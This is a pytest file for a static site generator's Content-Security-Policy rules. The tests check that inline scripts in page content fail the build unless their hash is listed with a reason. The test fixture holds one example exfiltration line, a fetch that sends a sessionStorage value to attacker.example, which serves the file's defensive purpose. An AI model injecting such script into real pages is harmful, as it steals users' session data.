"""Finding 10 of issue 15: a <script> written into a page's content fails the build unless
site.yaml lists its hash with a reason; before, the build hashed it into the policy and it
ran on the published site."""

from __future__ import annotations

import re

from build_tools.site.html.csp import source_hash

from ..conftest import page_text

SCRIPT = "fetch('https://attacker.example/?c=' + sessionStorage.getItem('isdp'))"
PAGE = page_text("Home", f"A paragraph.\n\n<script>{SCRIPT}</script>\n")


def _policy(html: str) -> str:
    return re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1)


def test_a_script_in_markdown_fails_the_build(make_site, build_site):
    src = make_site({"content/index.md": PAGE})
    result = build_site(src)
    assert not result.ok
    problem = next(w for w in result.warnings if "inline <script>" in w)
    assert "content/index" in problem and source_hash(SCRIPT) in problem
    assert "csp.inline_scripts" in problem


def test_a_listed_script_runs_under_the_policy(make_site, build_site):
    src = make_site({"content/index.md": PAGE})
    digest = source_hash(SCRIPT).strip("'")
    with (src / "site.yaml").open("a", encoding="utf-8") as handle:
        handle.write(f"csp:\n  inline_scripts:\n    - hash: {digest}\n"
                     "      reason: Reviewed by the MDE ISO for the test of this page.\n")
    result = build_site(src)
    assert result.ok, result.warnings
    html = (result.outdir / "content" / "index.html").read_text()
    assert source_hash(SCRIPT) in _policy(html)


def test_the_theme_scripts_still_run(make_site, build_site):
    result = build_site(make_site({"content/index.md": page_text("Home", "A paragraph.")}))
    assert result.ok, result.warnings
    html = (result.outdir / "content" / "index.html").read_text()
    assert re.search(r"script-src 'self' 'sha256-", _policy(html))


def test_a_listed_hash_needs_a_reason(make_site):
    from click.testing import CliRunner

    from build_tools.cli import main

    src = make_site({"content/index.md": PAGE})
    with (src / "site.yaml").open("a", encoding="utf-8") as handle:
        handle.write(f"csp:\n  inline_scripts:\n    - hash: {source_hash(SCRIPT).strip(chr(39))}\n")
    result = CliRunner().invoke(main, ["check", "--src", str(src)])
    assert result.exit_code == 1 and "site.yaml:" in result.output and "reason" in result.output
